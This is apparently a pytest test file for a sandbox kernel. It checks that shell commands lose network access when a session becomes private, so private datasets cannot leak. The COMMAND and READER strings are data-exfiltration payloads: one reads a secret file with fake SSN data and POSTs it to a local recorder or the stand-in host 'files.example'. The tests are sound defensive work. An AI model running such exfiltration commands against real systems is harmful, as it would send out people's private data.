"""A shell command (``sandbox_execute``) that started while its session was
public loses its way out when the session rises, like the cells' sandbox.

An audit found the hole: with no REPL engine live, the shell tool ran its
command through an engine of its own that the registry's watcher never saw,
so its egress proxy stayed open after the rise; on a user-mode or host
network nothing tracked the command at all. A connector's
``add_private_dataset(wait=...)`` timed out (or, worse, a holder reported
"no network" while it had some), and the command sent the private file a
sandbox of another session had copied into the shared folder.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from kernel_helpers import SandboxKernelHandle

from sandbox_kernel.network import EgressPolicy
from sandbox_kernel.privacy import PrivateData
from sandbox_kernel.tools import SessionRegistry, ToolsConfig, sandbox_execute

pytestmark = pytest.mark.asyncio


class Recorder(BaseHTTPRequestHandler):
    got: list[bytes] = []

    def do_POST(self) -> None:
        Recorder.got.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[int]:
    Recorder.got = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


# waits for the go, then shows its interfaces and posts the file
COMMAND = (
    "touch /workspace/started; while [ ! -e /workspace/go ]; do sleep 0.05; done; "
    "echo IFACES $(tail -n +3 /proc/net/dev | cut -d: -f1); "
    'python3 -c "import urllib.request as u; '
    "print('SENT', u.urlopen(u.Request('{url}', data=b'name,ssn')).read())\""
)


def _recorded_registry(network: str, recorder: int) -> tuple[str, SessionRegistry]:
    """The recorder's URL as a sandbox on ``network`` reaches it, and a registry
    whose egress proxy lets it through. "user" (pasta) cannot reach the host's
    loopback: with it only the sandbox's interfaces are checked."""
    url = f"http://files.example:{recorder}/x" if network == "proxied" else f"http://127.0.0.1:{recorder}/x"
    reg = SessionRegistry(
        ToolsConfig(
            backend="bwrap",
            idle_timeout=600,
            network=network,
            egress_policy=EgressPolicy(allow=["files.example"], allow_addresses=["127.0.0.1"]),
            egress_name_overrides={"files.example": ["127.0.0.1"]},
        )
    )
    return url, reg


async def _start_command(reg: SessionRegistry, session_id: str, url: str) -> tuple[Path, asyncio.Task[Any]]:
    """Start COMMAND in the session's sandbox; return its workspace and task once it runs."""
    session = await reg.get("alice", session_id)
    session.workspace.mkdir(parents=True, exist_ok=True)
    command = asyncio.create_task(
        sandbox_execute(COMMAND.format(url=url), timeout=120, user_id="alice", session_id=session_id, registry=reg)
    )
    for _ in range(600):
        if (session.workspace / "started").exists() or command.done():
            break
        await asyncio.sleep(0.05)
    assert (session.workspace / "started").exists(), command.result().text if command.done() else "not started"
    return session.workspace, command


@pytest.mark.parametrize("network", ["proxied", "host", "user"])
async def test_a_running_command_loses_its_network_when_the_session_rises(
    network: str, recorder: int, data_dir: Path
) -> None:
    url, reg = _recorded_registry(network, recorder)
    try:
        workspace, command = await _start_command(reg, "shell", url)
        assert (await reg.get("alice", "shell")).engine is None  # the command runs in an engine of its own
        # A connector raises the session and waits, as documented, until no
        # sandbox of it has network: the command's must count, and be cut.
        connector = PrivateData("alice", "shell", reg.config.privacy_store())
        await asyncio.to_thread(connector.add_private_dataset, "crm", "SECRET", "connector", wait=15)
        (workspace / "go").touch()
        result = (await asyncio.wait_for(command, 60)).text
    finally:
        await reg.aclose()
    assert "SENT" not in result, result
    assert Recorder.got == [], result
    if network == "host":
        assert "Exit code: -9" in result, result  # the host's network cannot be taken away: the command is killed
    else:
        iface_line = next(line for line in result.splitlines() if line.startswith("IFACES"))
        assert iface_line.split()[1:] == ["lo"], result


async def test_private_datasets_wait_for_every_holder_of_the_folder_to_lose_its_network(
    recorder: int, data_dir: Path, tmp_path: Path
) -> None:
    """A notebook in the folder of an agent's session adds a private dataset:
    the agent's command, still public, rises with the folder but cuts its
    network only at its watcher's next poll. The notebook's new sandbox must
    not get the dataset before every holder of the folder reports the cut;
    here the agent's registry has no watcher, so it never does, and the
    mount is withheld with a notice naming the holder."""
    reg = SessionRegistry(ToolsConfig(backend="bwrap", idle_timeout=600, network="host", privacy_poll_interval=0))
    kernel = None
    try:
        workspace, command = await _start_command(reg, "agent", f"http://127.0.0.1:{recorder}/x")
        secret = tmp_path / "crm.csv"
        secret.write_text("name,ssn\nbob,123-45-6789\n")
        (tmp_path / "ktmp").mkdir()
        datasets = json.dumps({"crm": {"source": str(secret), "sensitivity": "SECRET"}})
        kernel = await asyncio.to_thread(
            SandboxKernelHandle,
            workspace,
            tmp_path / "ktmp",
            [
                "--SandboxKernel.backend=bwrap",
                f"--SandboxKernel.private_datasets={datasets}",
                "--SandboxKernel.user_id=alice",
                "--SandboxKernel.session_id=notebook",
            ],
            {"SANDBOX_KERNEL_DATA_DIR": str(data_dir)},
        )
        run = await asyncio.to_thread(
            kernel.run, "import sandbox_kernel.private as p\np.add_dataset('crm', 'SECRET')", 90
        )
        assert run.status == "ok", (run.stderr, run.errors)
        run = await asyncio.to_thread(
            kernel.run, "import sandbox_kernel.private as p\nprint(open(p.dataset_path('crm')).read())", 90
        )
        shown = run.stdout + run.stderr
        assert "123-45-6789" not in shown, shown
        assert "The private datasets are not mounted in this sandbox" in shown, shown
        assert "of session agent" in shown, shown
        (workspace / "go").touch()
        await asyncio.wait_for(command, 60)
    finally:
        if kernel is not None:
            await asyncio.to_thread(kernel.shutdown)
        await reg.aclose()


# a command that logs its interfaces every 20 ms (wall clock, the host's too) until told to stop
LOGGER = (
    "touch /workspace/started; while [ ! -e /workspace/stop ]; do "
    "echo \"$(date +%s.%N) $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\\n' ' ')\" "
    ">> /workspace/ifaces.log; sleep 0.02; done"
)


@pytest.mark.parametrize("network", ["user", "host"])
async def test_a_command_loses_its_network_while_the_agents_loop_is_busy(network: str, data_dir: Path) -> None:
    """The registry's watcher polls on the agent's event loop, which also
    cleans what sandboxes send and runs the agent's own code: a loop kept busy
    for seconds (here a blocking call, as a flood of outputs slow to clean
    does) must not keep a risen command's network that long. The cut
    watchdog's thread cuts it (the user-mode network's helper killed; a
    command on the host's network killed)."""
    reg = SessionRegistry(ToolsConfig(backend="bwrap", idle_timeout=600, network=network))
    session = await reg.get("alice", "busy")
    session.workspace.mkdir(parents=True, exist_ok=True)
    command = asyncio.create_task(
        sandbox_execute(LOGGER, timeout=120, user_id="alice", session_id="busy", registry=reg)
    )
    log = session.workspace / "ifaces.log"
    try:
        for _ in range(600):
            if log.exists() or command.done():
                break
            await asyncio.sleep(0.05)
        assert log.exists(), command.result().text if command.done() else "not started"
        await asyncio.sleep(1.0)  # the watcher has polled
        assert "lo" in log.read_text() and log.read_text().splitlines()[-1].split()[1:] != ["lo"]
        raised: list[float] = []
        connector = PrivateData("alice", "busy", reg.config.privacy_store())

        def rise() -> None:
            connector.add_private_dataset("crm", "SECRET", "connector")
            raised.append(time.time())

        threading.Timer(0.5, rise).start()
        time.sleep(4.0)  # noqa: ASYNC251 - on purpose: the agent's loop is busy, its watcher cannot poll
        assert raised, "the rise did not happen"
        lines = [line.split() for line in log.read_text().splitlines() if line.strip()]
        if network == "host":
            # the host's network cannot be taken away: the command is killed
            cut_at = float(lines[-1][0])
        else:
            cut_at = next((float(ts) for ts, *names in lines if names == ["lo"] and float(ts) > raised[0]), 1e18)
        cut_after = cut_at - raised[0]
        print(f"{network}: command cut {cut_after * 1000:.0f} ms after the rise, the loop busy 4 s")
        assert cut_after < 2.0, f"the command kept its network {cut_after:.1f} s after the rise"
        (session.workspace / "stop").touch()
        result = (await asyncio.wait_for(command, 60)).text
        if network == "host":
            assert "Exit code: -9" in result, result
    finally:
        (session.workspace / "stop").touch()
        await reg.aclose()


# waits for the secret a connector hands over, then shows its interfaces and posts it
READER = (
    "while [ ! -e /workspace/secret.txt ]; do sleep 0.01; done; "
    "echo IFACES $(tail -n +3 /proc/net/dev | cut -d: -f1); "
    'python3 -c "import urllib.request as u; '
    "print('SENT', u.urlopen(u.Request('{url}', data=open('/workspace/secret.txt', 'rb').read())).read())\""
)


@pytest.mark.parametrize("network", ["proxied", "user", "host"])
async def test_a_command_starting_while_the_session_rises_counts_as_holding_the_network(
    network: str, recorder: int, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A command takes its network decision, then its launch scans the
    workspace (a second for a large folder the sandbox filled) before it
    runs. An attack review found that the session counted it as holding
    network only once it ran: a rise in between was reported as cut at the
    next poll, the connector's ``wait=True`` returned and it handed its data
    over, and the command then started with network, read it and sent it
    out (through the egress proxy, or its own interface). Here the rise is
    made inside that window (when the launch is built), and held there until
    a poll had time to report it: the handover must wait for the command to
    be cut."""
    from sandbox_kernel.engine.session import Session

    url, reg = _recorded_registry(network, recorder)
    session = await reg.get("alice", "starting")
    workspace = session.workspace
    workspace.mkdir(parents=True, exist_ok=True)
    connector = PrivateData("alice", "starting", reg.config.privacy_store())
    handed: list[float] = []
    connectors: list[threading.Thread] = []

    def hand_over() -> None:
        connector.add_private_dataset("crm", "SECRET", "connector", wait=30)
        handed.append(time.monotonic())
        (workspace / "secret.txt").write_text("name,ssn\nbob,123-45-6789\n")

    real_launch = Session._launch
    launched: list[float] = []

    def launch_during_the_rise(self: Session, *args: Any, **kwargs: Any) -> Any:
        if not launched:
            connectors.append(threading.Thread(target=hand_over, daemon=True))
            connectors[0].start()
            time.sleep(1.0)  # four polls: long enough for one to report the rise
            launched.append(time.monotonic())
        return real_launch(self, *args, **kwargs)

    monkeypatch.setattr(Session, "_launch", launch_during_the_rise)
    try:
        result = await asyncio.wait_for(
            sandbox_execute(READER.format(url=url), timeout=60, user_id="alice", session_id="starting", registry=reg),
            90,
        )
        await asyncio.to_thread(connectors[0].join, 60)
    finally:
        await reg.aclose()
    text = result.text
    assert launched and handed, text
    assert "SENT" not in text, text
    assert Recorder.got == [], text
    assert handed[0] > launched[0], "the data was handed over before the command had even started"
    if network == "host":
        assert "Exit code: -9" in text, text  # the host's network cannot be taken away: the command is killed
    else:
        iface_line = next(line for line in text.splitlines() if line.startswith("IFACES"))
        assert iface_line.split()[1:] == ["lo"], text
